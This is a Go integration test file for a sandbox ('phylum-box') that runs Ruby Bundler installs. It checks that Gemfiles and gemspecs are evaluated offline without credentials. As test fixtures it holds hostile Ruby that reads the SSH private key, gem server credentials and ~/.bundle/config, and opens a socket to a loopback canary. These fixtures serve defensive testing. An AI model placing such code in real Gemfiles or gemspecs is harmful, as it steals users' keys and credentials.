package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
)

// A cloned project's Gemfile is Ruby. phylum-box evaluates it in a step with no
// network, no credentials and the project read-only; the resolve and download steps
// read a plain Gemfile written from what it declared.

// bundleHostileGemfile tries, wherever it is evaluated, to reach a loopback
// listener, read the SSH key and the gem server credentials, and leave a marker in
// $HOME; it prints what it managed on stderr.
const bundleHostileGemfile = `source @SOURCE@
home = ENV["HOME"].to_s
File.write(File.join(home, "pbox-gemfile-marker"), "ran") rescue nil
begin
  require "socket"
  s = TCPSocket.new("127.0.0.1", @CANARY@)
  s.write("gemfile-connect")
  s.close
  $stderr.puts "PBOX-GEMFILE canary=OK"
rescue Exception => e
  $stderr.puts "PBOX-GEMFILE canary=FAIL #{e.class}"
end
begin
  $stderr.puts "PBOX-GEMFILE ssh=OK #{File.read(File.join(home, ".ssh/id_rsa"))}"
rescue Exception => e
  $stderr.puts "PBOX-GEMFILE ssh=FAIL #{e.class}"
end
creds = ENV.select {|k, _| k.start_with?("BUNDLE_1") }.to_a.inspect
conf = (File.read(File.join(home, ".bundle/config")) rescue "none")
$stderr.puts "PBOX-GEMFILE creds=#{creds} conf=#{conf.inspect}"
gem "pbox_greet"
`

func TestBundleGemfileEvaluatedOffline(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "RubyGems")
		b := regNewBox(t, m)
		containmentOnly(t, m, b.Home) // the sandbox alone: a hostile fixture
		gemfile := strings.NewReplacer("@SOURCE@", strconv.Quote(gs.URL), "@CANARY@", strconv.Itoa(canary.Port)).Replace(bundleHostileGemfile)
		writeFile(t, filepath.Join(b.Project, "Gemfile"), gemfile, 0o644)
		// The user's gem server credentials: the networked steps need them, the
		// Gemfile must never see them.
		secret := "u:PBOXGEMCRED" + strconv.Itoa(gs.Port)
		writeFile(t, filepath.Join(b.Home, ".bundle", "config"), "---\nBUNDLE_127__0__0__1: \""+secret+"\"\n", 0o600)
		chownTree(t, m, b.Home)
		homeBefore := regHomeHash(b)
		r := b.bundle(db, "install")
		wantCode(t, r, 0, "the declared gems install")
		all := r.Stdout + r.Stderr
		if !strings.Contains(all, "PBOX-GEMFILE canary=FAIL") {
			t.Errorf("the Gemfile was not evaluated in the sandbox\n%s", r)
		}
		for _, bad := range []string{"canary=OK", "ssh=OK", "PBOXGEMCRED", b.Mark} {
			if strings.Contains(all, bad) {
				t.Errorf("the Gemfile could see or do %q\n%s", bad, r)
			}
		}
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the Gemfile reached a loopback listener: %q", got)
		}
		for _, g := range []string{"pbox_greet-1.0.0", "pbox_dep-1.0.0"} {
			if gemDir(t, b.Project, g) == "" {
				t.Errorf("%s is not installed\n%s", g, r)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(b.Project, "Gemfile")); string(got) != gemfile {
			t.Errorf("the project's Gemfile changed:\n%s", got)
		}
		assertSameTree(t, homeBefore, regHomeHash(b), "the caller's home")
	})
}

// TestBundleGemfileDeclarative is the legitimate twin: groups, requirements and a
// source block install as before and the lockfile fits the project's Gemfile.
func TestBundleGemfileDeclarative(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		other := regStartGems(t)
		other.AddGem("pbox_other", "1.0.0", nil, map[string]string{"lib/pbox_other.rb": "module PboxOther; V = \"other\"; end\n"}, "")
		db := regMalDB(t, m, "RubyGems")
		b := regNewBox(t, m)
		gemfile := "source " + strconv.Quote(gs.URL) + "\n" +
			"ruby \">= 2.5\"\n" +
			"gem \"pbox_greet\", \"~> 1.0\", \">= 1.0.0\"\n" +
			"group :development, :test do\n  gem \"pbox_dep\", require: false\nend\n" +
			"source " + strconv.Quote(other.URL) + " do\n  gem \"pbox_other\"\nend\n"
		writeFile(t, filepath.Join(b.Project, "Gemfile"), gemfile, 0o644)
		chownTree(t, m, b.Home)
		r := b.bundle(db, "install")
		wantCode(t, r, 0, "an ordinary Gemfile")
		for _, g := range []string{"pbox_greet-1.0.0", "pbox_dep-1.0.0", "pbox_other-1.0.0"} {
			if gemDir(t, b.Project, g) == "" {
				t.Errorf("%s is not installed\n%s", g, r)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(b.Project, "Gemfile")); string(got) != gemfile {
			t.Errorf("the project's Gemfile changed:\n%s", got)
		}
		lock, _ := os.ReadFile(filepath.Join(b.Project, "Gemfile.lock"))
		for _, want := range []string{"pbox_other!", "pbox_greet (~> 1.0, >= 1.0.0)", "remote: " + other.URL, "RUBY VERSION"} {
			if !strings.Contains(string(lock), want) {
				t.Errorf("Gemfile.lock lacks %q:\n%s", want, lock)
			}
		}
		// The project's own Gemfile accepts the lock as it is.
		c := exec.Command("bundle", "exec", "ruby", "-e", "require 'pbox_greet'; require 'pbox_other'; puts PboxGreet.greet + ' ' + PboxOther::V")
		c.Dir = b.Project
		c.Env = append(os.Environ(), "HOME="+b.Home, "BUNDLE_FROZEN=true")
		if out, err := c.CombinedOutput(); err != nil || strings.TrimSpace(string(out)) != "hello dep other" {
			t.Errorf("bundle exec after the install: %v %s", err, out)
		}
		// lock and update go through the same evaluation.
		for _, cmd := range []string{"lock", "update"} {
			r := b.bundle(db, cmd)
			wantCode(t, r, 0, "bundle "+cmd)
			wantStderr(t, r, "evaluating the project's bundle manifest")
		}
	})
}

// TestBundleGemfileGitSourceRefused: a git gem's gemspec is Ruby from that
// repository, which Bundler would load while resolving with the network.
func TestBundleGemfileGitSourceRefused(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		db := regMalDB(t, m, "RubyGems")
		b := regNewBox(t, m)
		writeFile(t, filepath.Join(b.Project, "Gemfile"), "source "+strconv.Quote(gs.URL)+"\ngem \"pbox_greet\"\ngem \"pbox_git\", git: \"https://git.example.invalid/pbox_git.git\"\n", 0o644)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.bundle(db, "install")
		wantCode(t, r, 2, "a git source")
		wantStderr(t, r, "Gemfile", "git source", "git.example.invalid")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused install")
		if hits := gs.Hits(); len(hits) > 0 {
			t.Errorf("a refused install reached the gem server: %q", hits)
		}
	})
}

// TestBundleProjectConfigPathOutsideRefused: a project's .bundle/config may not
// send gems outside the project; the same setting inside it works.
func TestBundleProjectConfigPathOutsideRefused(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		db := regMalDB(t, m, "RubyGems")
		b := bundleProject(t, m, gs, "pbox_greet")
		outside := filepath.Join(filepath.Dir(b.Home), "pbox-gems-outside")
		writeFile(t, filepath.Join(b.Project, ".bundle", "config"), "---\nBUNDLE_PATH: \""+outside+"\"\n", 0o644)
		chownTree(t, m, b.Home)
		before := treeHash(t, b.Project, true)
		r := b.bundle(db, "install")
		wantCode(t, r, 2, "BUNDLE_PATH outside the project")
		wantStderr(t, r, ".bundle/config:2", "BUNDLE_PATH", "outside the project")
		assertSameTree(t, before, treeHash(t, b.Project, true), "a refused install")
		if pathExists(outside) {
			t.Errorf("%s was created", outside)
		}
		if hits := gs.Hits(); len(hits) > 0 {
			t.Errorf("a refused install reached the gem server: %q", hits)
		}

		writeFile(t, filepath.Join(b.Project, ".bundle", "config"), "---\nBUNDLE_PATH: \"gems\"\nBUNDLE_JOBS: \"2\"\n", 0o644)
		chownTree(t, m, b.Home)
		r = b.bundle(db, "install")
		wantCode(t, r, 0, "BUNDLE_PATH inside the project")
		if m, _ := filepath.Glob(filepath.Join(b.Project, "gems", "ruby", "*", "gems", "pbox_greet-1.0.0")); len(m) != 1 {
			t.Errorf("pbox_greet is not in the project's gems/\n%s", r)
		}
	})
}

// bundleHostileSpec is a gem specification (Ruby, loaded by RubyGems) committed in
// the project's vendor/bundle: it reaches for the network when it is loaded.
const bundleHostileSpec = `begin
  require "socket"
  s = TCPSocket.new("127.0.0.1", @CANARY@)
  s.write("spec-connect")
  s.close
  $stderr.puts "PBOX-SPEC canary=OK"
rescue Exception => e
  $stderr.puts "PBOX-SPEC canary=FAIL #{e.class}"
end
Gem::Specification.new do |s|
  s.name = @NAME@
  s.version = @VERSION@
  s.summary = "committed"
  s.authors = ["x"]
end
`

// TestBundleCommittedGemDirNotLoadedOnline: gem specifications committed in the
// project's vendor/bundle are Ruby; no networked step loads them (nor runs a
// committed Bundler that the lockfile's BUNDLED WITH asks for). The legitimate twin
// is an install over a vendor/bundle the previous install filled.
func TestBundleCommittedGemDirNotLoadedOnline(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "RubyGems")
		b := bundleProject(t, m, gs, "pbox_greet")
		// Legitimate: install twice; the second run finds the first one's gems.
		r := b.bundle(db, "install")
		wantCode(t, r, 0, "the first install")
		r = b.bundle(db, "install")
		wantCode(t, r, 0, "an install over the installed gems")

		specs, _ := filepath.Glob(filepath.Join(b.Project, "vendor", "bundle", "ruby", "*", "specifications"))
		if len(specs) != 1 {
			t.Fatalf("no specifications dir after the install: %q", specs)
		}
		for _, nv := range [][2]string{{"bundler", "9.9.9"}, {"pbox_evil_local", "1.0.0"}} {
			spec := strings.NewReplacer("@CANARY@", strconv.Itoa(canary.Port), "@NAME@", strconv.Quote(nv[0]), "@VERSION@", strconv.Quote(nv[1])).Replace(bundleHostileSpec)
			writeFile(t, filepath.Join(specs[0], nv[0]+"-"+nv[1]+".gemspec"), spec, 0o644)
		}
		lock, err := os.ReadFile(filepath.Join(b.Project, "Gemfile.lock"))
		if err != nil {
			t.Fatal(err)
		}
		i := strings.Index(string(lock), "BUNDLED WITH")
		if i < 0 {
			t.Fatalf("no BUNDLED WITH in\n%s", lock)
		}
		writeFile(t, filepath.Join(b.Project, "Gemfile.lock"), string(lock[:i])+"BUNDLED WITH\n   9.9.9\n", 0o644)
		writeFile(t, filepath.Join(b.Project, "Gemfile"), "source "+strconv.Quote(gs.URL)+"\ngem \"pbox_greet\"\ngem \"pbox_dep\"\n", 0o644)
		chownTree(t, m, b.Home)
		r = b.bundle(db, "install")
		if strings.Contains(r.Stdout+r.Stderr, "PBOX-SPEC canary=OK") {
			t.Errorf("a committed gem specification ran with the network\n%s", r)
		}
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("a committed gem specification reached a loopback listener: %q\n%s", got, r)
		}
	})
}

// TestBundleGemspecEvaluatedOffline: a gem's own project (`gemspec` in the
// Gemfile) installs its dependencies; the gemspec, Ruby, runs only where the
// Gemfile does (offline, no credentials), never in the networked steps, which read
// a declarative gemspec written from it.
func TestBundleGemspecEvaluatedOffline(t *testing.T) {
	t.Parallel()
	bundleNeed(t)
	forEachMode(t, func(t *testing.T, m mode) {
		gs := bundleGreetSource(t)
		canary := regStartCanary(t)
		db := regMalDB(t, m, "RubyGems")
		b := regNewBox(t, m)
		writeFile(t, filepath.Join(b.Project, "Gemfile"), "source "+strconv.Quote(gs.URL)+"\ngemspec\n", 0o644)
		spec := `begin
  require "socket"
  s = TCPSocket.new("127.0.0.1", ` + strconv.Itoa(canary.Port) + `)
  s.write("gemspec-connect")
  s.close
  $stderr.puts "PBOX-GEMSPEC canary=OK"
rescue Exception => e
  $stderr.puts "PBOX-GEMSPEC canary=FAIL #{e.class}"
end
Gem::Specification.new do |s|
  s.name = "pbox_mine"
  s.version = "0.1.0"
  s.summary = "the project's own gem"
  s.authors = ["pbox"]
  s.files = ["lib/pbox_mine.rb"]
  s.add_dependency "pbox_greet", "~> 1.0"
  s.add_development_dependency "pbox_dep", ">= 1.0"
end
`
		writeFile(t, filepath.Join(b.Project, "pbox_mine.gemspec"), spec, 0o644)
		writeFile(t, filepath.Join(b.Project, "lib", "pbox_mine.rb"), "require \"pbox_greet\"\n", 0o644)
		chownTree(t, m, b.Home)
		r := b.bundle(db, "install")
		wantCode(t, r, 0, "a gem's own project")
		all := r.Stdout + r.Stderr
		if !strings.Contains(all, "PBOX-GEMSPEC canary=FAIL") || strings.Contains(all, "canary=OK") {
			t.Errorf("the gemspec must run, offline only\n%s", r)
		}
		if got := canary.Got(); len(got) > 0 {
			t.Errorf("the gemspec reached a loopback listener: %q", got)
		}
		for _, g := range []string{"pbox_greet-1.0.0", "pbox_dep-1.0.0"} {
			if gemDir(t, b.Project, g) == "" {
				t.Errorf("%s is not installed\n%s", g, r)
			}
		}
		lock, _ := os.ReadFile(filepath.Join(b.Project, "Gemfile.lock"))
		for _, want := range []string{"PATH\n  remote: .\n  specs:\n    pbox_mine (0.1.0)\n      pbox_greet (~> 1.0)", "pbox_dep (>= 1.0)", "pbox_mine!"} {
			if !strings.Contains(string(lock), want) {
				t.Errorf("Gemfile.lock lacks %q:\n%s", want, lock)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(b.Project, "pbox_mine.gemspec")); string(got) != spec {
			t.Errorf("the project's gemspec changed:\n%s", got)
		}
	})
}
